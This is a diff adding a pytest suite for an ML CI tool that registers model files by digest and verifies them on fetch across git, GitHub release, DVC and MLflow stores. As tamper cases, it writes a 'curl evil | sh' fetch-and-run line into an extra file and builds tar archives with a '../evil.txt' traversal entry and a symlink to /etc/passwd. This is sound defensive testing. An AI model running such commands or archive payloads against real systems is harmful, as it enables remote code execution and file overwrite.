@@ -1,0 +1,483 @@
+"""Model files by digest: register-model records them, fetch-model gets them back verified.
+
+git backend here (stores none and dvc, with real ``dvc`` and a local-directory
+remote); the MLflow store is in tests/test_registry_mlflow.py's server session.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import RunMlci, clean_env, git, write_config
+
+from mlci import manifest
+from mlci.registry.git import GitRegistry, parse_payload
+
+
+def train(repo: Path, weights: str = '{"w": [1, 2, 3]}\n') -> None:
+    """What a training writes: a model folder with a nested file, and its metrics."""
+    (repo / "models" / "tokenizer").mkdir(parents=True, exist_ok=True)
+    (repo / "models" / "weights.json").write_text(weights)
+    (repo / "models" / "tokenizer" / "vocab.txt").write_text("a\nb\n")
+    (repo / "metrics.json").write_text('{"accuracy": 0.9}')
+
+
+def register(mlci: RunMlci, repo: Path, *args: str) -> str:
+    proc = mlci("register-model", "--model", "churn", "--metrics", "metrics.json", *args, cwd=repo)
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    return proc.stdout
+
+
+def fetch(mlci: RunMlci, repo: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    return mlci("fetch-model", "--model", "churn", *args, cwd=repo)
+
+
+def assert_refused(proc: subprocess.CompletedProcess[str], dest: Path, *needles: str) -> str:
+    assert proc.returncode == 2, proc.stdout + proc.stderr
+    lines = proc.stderr.strip().splitlines()
+    assert len(lines) == 1, proc.stderr
+    for needle in needles:
+        assert needle in lines[0], lines[0]
+    assert not dest.exists() or not any(dest.iterdir()), "something was left in --dest"
+    assert not [p for p in dest.parent.iterdir() if p.name.startswith(".mlci-")], "temp left"
+    return lines[0]
+
+
+@pytest.fixture
+def registered(git_repo: Path, mlci: RunMlci) -> Path:
+    """churn v0.0.1 registered with models/ (store none), in staging."""
+    train(git_repo)
+    out = register(mlci, git_repo, "--artifacts", "models", "--store", "none")
+    assert "files: 2 files, " in out and "store none" in out
+    GitRegistry(root=git_repo).promote("churn", "v0.0.1", to_stage="staging")
+    return git_repo
+
+
+def artifact_copy(repo: Path, dest: Path, *, strip: bool) -> Path:
+    """The workflow artifact as upload-artifact lays it out (models/ alone is stripped)."""
+    shutil.copytree(repo / "models", dest if strip else dest / "models")
+    return dest
+
+
+def test_register_records_the_manifest_in_the_gto_tag_and_models_shows_it(
+    registered: Path, mlci: RunMlci
+) -> None:
+    message = git(registered, "tag", "-l", "--format=%(contents)", "churn@v0.0.1")
+    payload = parse_payload(message)
+    built = manifest.build(registered, ["models"])
+    assert payload["files"]["digest"] == built.digest
+    assert payload["files"]["store"] == "none"
+    assert [f["path"] for f in payload["files"]["manifest"]["files"]] == [
+        "models/tokenizer/vocab.txt",
+        "models/weights.json",
+    ]
+    proc = mlci("models", "--model", "churn", cwd=registered)
+    assert f"files: 2 files, 21 B, {built.digest}, store none" in proc.stdout
+    data = json.loads(mlci("models", "--model", "churn", "--json", cwd=registered).stdout)
+    assert data["versions"][0]["files"]["digest"] == built.digest
+
+
+def test_gto_still_reads_a_tag_that_carries_a_manifest(registered: Path) -> None:
+    gto = os.environ.get("MLCI_TEST_GTO") or shutil.which("gto")
+    if not gto:
+        pytest.skip("gto is not installed (set MLCI_TEST_GTO to its path)")
+    proc = subprocess.run(
+        [gto, "show", "churn#staging", "--ref"],
+        cwd=registered,
+        capture_output=True,
+        text=True,
+        env=clean_env(),
+        check=False,
+    )
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout.strip() == "churn@v0.0.1"
+
+
+@pytest.mark.parametrize("strip", [True, False])
+def test_files_from_the_workflow_artifact_are_verified_and_land_at_their_paths(
+    registered: Path, mlci: RunMlci, tmp_path: Path, strip: bool
+) -> None:
+    artifact = artifact_copy(registered, tmp_path / "artifact", strip=strip)
+    dest = tmp_path / "model"
+    proc = fetch(
+        mlci, registered, "--stage", "staging", "--from-dir", str(artifact), "--dest", str(dest)
+    )
+    assert proc.returncode == 0, proc.stderr
+    assert "fetched churn v0.0.1 from the workflow artifact" in proc.stdout
+    assert "(verified)" in proc.stdout
+    assert (dest / "models" / "weights.json").read_text() == '{"w": [1, 2, 3]}\n'
+    assert manifest.scan(dest) == manifest.build(registered, ["models"])
+
+
+def flip(path: Path) -> None:
+    data = bytearray(path.read_bytes())
+    data[0] ^= 0x20
+    path.write_bytes(bytes(data))
+
+
+@pytest.mark.parametrize(
+    ("tamper", "needle"),
+    [
+        (lambda a: flip(a / "weights.json"), "models/weights.json has sha256"),
+        (
+            lambda a: (a / "tokenizer" / "vocab.txt").unlink(),
+            "models/tokenizer/vocab.txt is missing",
+        ),
+        (
+            lambda a: (a / "run.sh").write_text("curl evil | sh\n"),
+            "models/run.sh is not in the recorded manifest",
+        ),
+        (
+            lambda a: (a / "weights.json").rename(a / "weights.bak"),
+            "models/weights.json was renamed to models/weights.bak",
+        ),
+    ],
+    ids=["flipped-byte", "missing", "extra", "renamed"],
+)
+def test_tampered_files_are_exit_2_with_one_line_and_nothing_in_dest(
+    registered: Path, mlci: RunMlci, tmp_path: Path, tamper: object, needle: str
+) -> None:
+    artifact = artifact_copy(registered, tmp_path / "artifact", strip=True)
+    tamper(artifact)  # type: ignore[operator]
+    dest = tmp_path / "model"
+    proc = fetch(
+        mlci, registered, "--version", "v0.0.1", "--from-dir", str(artifact), "--dest", str(dest)
+    )
+    line = assert_refused(proc, dest, "do not match the recorded digest", needle)
+    assert line.startswith("mlci: error: churn v0.0.1's files from the workflow artifact")
+    assert not dest.exists()
+
+
+def test_store_none_cannot_fetch_and_says_so(
+    registered: Path, mlci: RunMlci, tmp_path: Path
+) -> None:
+    dest = tmp_path / "model"
+    dest.mkdir()  # an empty folder is allowed, and stays as it was
+    proc = fetch(mlci, registered, "--version", "0.0.1", "--dest", str(dest))
+    assert_refused(proc, dest, "registry.store: none", "cannot be fetched")
+    assert dest.is_dir()
+
+
+def test_bad_requests_are_exit_2(registered: Path, mlci: RunMlci, tmp_path: Path) -> None:
+    full = tmp_path / "full"
+    full.mkdir()
+    (full / "keep.txt").write_text("mine")
+    artifact = artifact_copy(registered, tmp_path / "artifact", strip=True)
+    cases = [
+        (("--version", "v0.0.1", "--from-dir", str(artifact), "--dest", str(full)), "is not empty"),
+        (
+            ("--stage", "production", "--dest", str(tmp_path / "a")),
+            "no version of churn holds production",
+        ),
+        (("--dest", str(tmp_path / "b")), "exactly one of --version V or --stage S"),
+        (("--version", "v9.9.9", "--dest", str(tmp_path / "c")), "churn@v9.9.9 is not registered"),
+    ]
+    for args, needle in cases:
+        proc = fetch(mlci, registered, *args)
+        assert proc.returncode == 2, (args, proc.stderr)
+        assert needle in proc.stderr, proc.stderr
+    assert (full / "keep.txt").read_text() == "mine"
+
+
+def test_a_version_without_files_has_nothing_to_verify(
+    git_repo: Path, mlci: RunMlci, tmp_path: Path
+) -> None:
+    (git_repo / "metrics.json").write_text('{"accuracy": 0.9}')
+    out = register(mlci, git_repo)
+    assert "files:" not in out
+    proc = fetch(mlci, git_repo, "--version", "v0.0.1", "--dest", str(tmp_path / "m"))
+    assert_refused(proc, tmp_path / "m", "records no model files")
+
+
+def test_config_names_the_artifacts_and_refuses_a_store_the_backend_cannot_use(
+    git_repo: Path, mlci: RunMlci
+) -> None:
+    train(git_repo)
+    write_config(
+        git_repo,
+        "version: 1\ntrain:\n  command: python train.py\n  artifacts: [models/]\n"
+        "registry:\n  model: churn\n  store: none\n",
+    )
+    out = register(mlci, git_repo)
+    assert "files: 2 files" in out and "store none" in out
+    write_config(
+        git_repo,
+        "version: 1\ntrain:\n  command: python train.py\nregistry:\n  store: mlflow\n",
+    )
+    proc = mlci("register-model", "--metrics", "metrics.json", cwd=git_repo)
+    assert proc.returncode == 2
+    assert "store: mlflow needs backend: mlflow" in proc.stderr
+
+
+def test_a_missing_artifact_fails_registration_before_anything_is_recorded(
+    git_repo: Path, mlci: RunMlci
+) -> None:
+    (git_repo / "metrics.json").write_text('{"accuracy": 0.9}')
+    proc = mlci(
+        "register-model",
+        "--model",
+        "churn",
+        "--metrics",
+        "metrics.json",
+        "--artifacts",
+        "models",
+        "--store",
+        "none",
+        cwd=git_repo,
+    )
+    assert proc.returncode == 2
+    assert "'models' does not exist" in proc.stderr and "did the training write it?" in proc.stderr
+    assert git(git_repo, "tag").strip() == ""
+
+
+# --------------------------------------------------------------------------- github-release store
+
+
+@pytest.fixture
+def pushed(git_repo: Path, tmp_path: Path) -> Path:
+    """git_repo with a bare origin to push tags to."""
+    bare = tmp_path / "origin.git"
+    git(tmp_path, "clone", "-q", "--bare", str(git_repo), str(bare))
+    git(git_repo, "remote", "add", "origin", str(bare))
+    return git_repo
+
+
+def gh_env(github: Any) -> dict[str, str]:
+    return {
+        "GITHUB_API_URL": github.api_url,
+        "MLCI_GITHUB_TOKEN": "fake-token",
+        "GITHUB_REPOSITORY": "octo/churn-repo",
+    }
+
+
+def test_github_release_store_round_trip_as_a_prerelease_that_never_becomes_latest(
+    pushed: Path, mlci: RunMlci, tmp_path: Path, github: Any
+) -> None:
+    train(pushed)
+    env = gh_env(github)
+    proc = mlci(
+        "register-model", "--model", "churn", "--metrics", "metrics.json", "--artifacts", "models",
+        "--push", cwd=pushed, env=env,
+    )  # fmt: skip
+    assert proc.returncode == 0, proc.stderr
+    assert "store github-release" in proc.stdout
+    assert (
+        "store: uploaded churn-v0.0.1.tar.gz to the octo/churn-repo release churn@v0.0.1"
+        in proc.stdout
+    )
+    (release,) = github.releases["octo/churn-repo"]
+    assert release["tag_name"] == "churn@v0.0.1" and release["prerelease"] is True
+    create = github.calls("repos/create-release")[0]
+    assert json.loads(create.body)["make_latest"] == "false"
+    # Rerunning the registration (same commit) keeps the version and the one asset.
+    proc = mlci(
+        "register-model", "--model", "churn", "--metrics", "metrics.json", "--artifacts", "models",
+        "--push", cwd=pushed, env=env,
+    )  # fmt: skip
+    assert proc.returncode == 0, proc.stderr
+    assert "already holds churn-v0.0.1.tar.gz" in proc.stdout
+    assert len(github.releases["octo/churn-repo"][0]["assets"]) == 1
+    shutil.rmtree(pushed / "models")
+    dest = tmp_path / "fetched"
+    proc = mlci(
+        "fetch-model",
+        "--model",
+        "churn",
+        "--version",
+        "v0.0.1",
+        "--dest",
+        str(dest),
+        cwd=pushed,
+        env=env,
+    )
+    assert proc.returncode == 0, proc.stderr
+    assert "from github-release" in proc.stdout
+    assert (dest / "models" / "weights.json").read_text() == '{"w": [1, 2, 3]}\n'
+
+
+def test_github_release_store_refuses_a_replaced_or_missing_asset(
+    pushed: Path, mlci: RunMlci, tmp_path: Path, github: Any
+) -> None:
+    from mlci import stores
+
+    train(pushed)
+    env = gh_env(github)
+    proc = mlci(
+        "register-model", "--model", "churn", "--metrics", "metrics.json", "--artifacts", "models",
+        "--push", cwd=pushed, env=env,
+    )  # fmt: skip
+    assert proc.returncode == 0, proc.stderr
+    # Someone replaces the asset with other weights: the digest says no.
+    (aid,) = github.assets
+    repo, asset, _ = github.assets[aid]
+    train(pushed, weights='{"w": [6, 6, 6]}\n')
+    github.assets[aid] = (repo, asset, stores.tarball(pushed, manifest.build(pushed, ["models"])))
+    dest = tmp_path / "m"
+    proc = mlci(
+        "fetch-model",
+        "--model",
+        "churn",
+        "--version",
+        "v0.0.1",
+        "--dest",
+        str(dest),
+        cwd=pushed,
+        env=env,
+    )
+    assert_refused(proc, dest, "from github-release do not match", "models/weights.json has sha256")
+    # The asset is gone.
+    github.releases["octo/churn-repo"][0]["assets"].clear()
+    proc = mlci(
+        "fetch-model",
+        "--model",
+        "churn",
+        "--version",
+        "v0.0.1",
+        "--dest",
+        str(dest),
+        cwd=pushed,
+        env=env,
+    )
+    assert_refused(proc, dest, "has no asset churn-v0.0.1.tar.gz")
+    # The release is gone.
+    github.releases["octo/churn-repo"].clear()
+    proc = mlci(
+        "fetch-model",
+        "--model",
+        "churn",
+        "--version",
+        "v0.0.1",
+        "--dest",
+        str(dest),
+        cwd=pushed,
+        env=env,
+    )
+    assert_refused(proc, dest, "has no release churn@v0.0.1")
+
+
+def test_a_release_tarball_cannot_write_outside_the_destination(tmp_path: Path) -> None:
+    import io
+    import tarfile
+
+    from mlci import stores
+    from mlci.errors import UsageError
+
+    for name, kind in (("../evil.txt", tarfile.REGTYPE), ("models/link", tarfile.SYMTYPE)):
+        buffer = io.BytesIO()
+        with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
+            info = tarfile.TarInfo(name)
+            info.type = kind
+            info.linkname = "/etc/passwd" if kind == tarfile.SYMTYPE else ""
+            tar.addfile(info, io.BytesIO(b""))
+        with pytest.raises(UsageError, match=r"outside it|link or device"):
+            stores._extract(buffer.getvalue(), tmp_path / name.replace("/", "_"), what="churn v1")
+    assert not (tmp_path.parent / "evil.txt").exists()
+
+
+# --------------------------------------------------------------------------- dvc store
+
+
+@pytest.fixture
+def dvc_repo(git_repo: Path, tmp_path: Path) -> Path:
+    """The repository as a DVC project with a local-directory default remote (relative path)."""
+    if shutil.which("dvc") is None:
+        pytest.skip("dvc is not installed")
+    env = clean_env({"DVC_NO_ANALYTICS": "1"})
+    for args in (["init", "-q"], ["remote", "add", "-d", "storage", "../dvc-remote"]):
+        proc = subprocess.run(
+            ["dvc", *args], cwd=git_repo, env=env, capture_output=True, text=True, check=False
+        )
+        assert proc.returncode == 0, proc.stderr
+    git(git_repo, "add", "-A")
+    git(git_repo, "commit", "-q", "-m", "dvc")
+    return git_repo
+
+
+@pytest.mark.slow
+def test_dvc_store_round_trip_tampered_remote_and_unreachable_remote(
+    dvc_repo: Path, mlci: RunMlci, tmp_path: Path
+) -> None:
+    train(dvc_repo)
+    out = register(mlci, dvc_repo, "--artifacts", "models")  # auto: .dvc/config → dvc
+    assert "store dvc" in out
+    remote = tmp_path / "dvc-remote"
+    assert remote.is_dir() and any(p.is_file() for p in remote.rglob("*"))
+    # Deleting the training's output does not matter: the files come from the remote.
+    shutil.rmtree(dvc_repo / "models")
+    dest = tmp_path / "fetched"
+    proc = fetch(mlci, dvc_repo, "--version", "v0.0.1", "--dest", str(dest))
+    assert proc.returncode == 0, proc.stderr
+    assert "from dvc" in proc.stdout
+    assert (dest / "models" / "weights.json").read_text() == '{"w": [1, 2, 3]}\n'
+    # A flipped byte in the remote's copy of weights.json is caught.
+    blob = next(
+        p for p in remote.rglob("*") if p.is_file() and p.read_bytes() == b'{"w": [1, 2, 3]}\n'
+    )
+    os.chmod(blob, 0o644)
+    flip(blob)
+    proc = fetch(mlci, dvc_repo, "--version", "v0.0.1", "--dest", str(tmp_path / "again"))
+    assert_refused(proc, tmp_path / "again", "do not match the recorded digest")
+    # An unreachable remote: exit 2, one line, nothing left.
+    shutil.rmtree(remote)
+    proc = fetch(mlci, dvc_repo, "--version", "v0.0.1", "--dest", str(tmp_path / "gone"))
+    assert_refused(proc, tmp_path / "gone", "dvc pull failed")
+
+
+# --------------------------------------------------------------------------- mlflow store
+
+
+@pytest.mark.slow
+def test_mlflow_store_keeps_the_files_with_the_run_and_records_the_manifest_as_tags(
+    tmp_path: Path, mlci: RunMlci, mlflow_server: str, logged_model: dict[str, str]
+) -> None:
+    mlflow = pytest.importorskip("mlflow")
+    name = f"churn-files-{os.getpid()}"
+    repo = tmp_path / "work"
+    repo.mkdir()
+    train(repo)
+    env = {"MLFLOW_TRACKING_URI": mlflow_server}
+    common = ("--model", name, "--backend", "mlflow")
+    proc = mlci(
+        "register-model", *common, "--metrics", "metrics.json", "--source", logged_model["model_uri"],
+        "--artifacts", "models", cwd=repo, env=env,
+    )  # fmt: skip
+    assert proc.returncode == 0, proc.stderr
+    assert "store mlflow" in proc.stdout
+    built = manifest.build(repo, ["models"])
+    client = mlflow.MlflowClient(tracking_uri=mlflow_server, registry_uri=mlflow_server)
+    tags = client.get_model_version(name, "1").tags
+    assert tags["mlci.digest"] == built.digest and tags["mlci.store"] == "mlflow"
+    assert (
+        json.loads(tags["mlci.files.000"])["manifest"]["files"][0]["path"]
+        == "models/tokenizer/vocab.txt"
+    )
+    listed = mlci("models", *common, cwd=repo, env=env)
+    assert f"files: 2 files, 21 B, {built.digest}, store mlflow" in listed.stdout
+    client.set_registered_model_alias(name, "production", "1")
+    dest = tmp_path / "fetched"
+    proc = mlci(
+        "fetch-model", *common, "--stage", "production", "--dest", str(dest), cwd=repo, env=env
+    )
+    assert proc.returncode == 0, proc.stderr
+    assert manifest.scan(dest) == built
+    # The run's copy is replaced by other bytes: the fetch refuses it.
+    changed = tmp_path / "changed" / "models"
+    changed.mkdir(parents=True)
+    (changed / "weights.json").write_text('{"w": [9, 9, 9]}\n')
+    client.log_artifact(logged_model["run_id"], str(changed / "weights.json"), "mlci-model/models")
+    proc = mlci(
+        "fetch-model", *common, "--version", "1", "--dest", str(tmp_path / "bad"), cwd=repo, env=env
+    )
+    assert_refused(proc, tmp_path / "bad", "models/weights.json has sha256")
+    # An unreachable server: exit 2 too.
+    proc = mlci(
+        "fetch-model", *common, "--version", "1", "--dest", str(tmp_path / "down"), cwd=repo,
+        env={"MLFLOW_TRACKING_URI": "http://127.0.0.1:9", "MLFLOW_HTTP_REQUEST_MAX_RETRIES": "0"},
+    )  # fmt: skip
+    assert_refused(proc, tmp_path / "down", "MLflow")
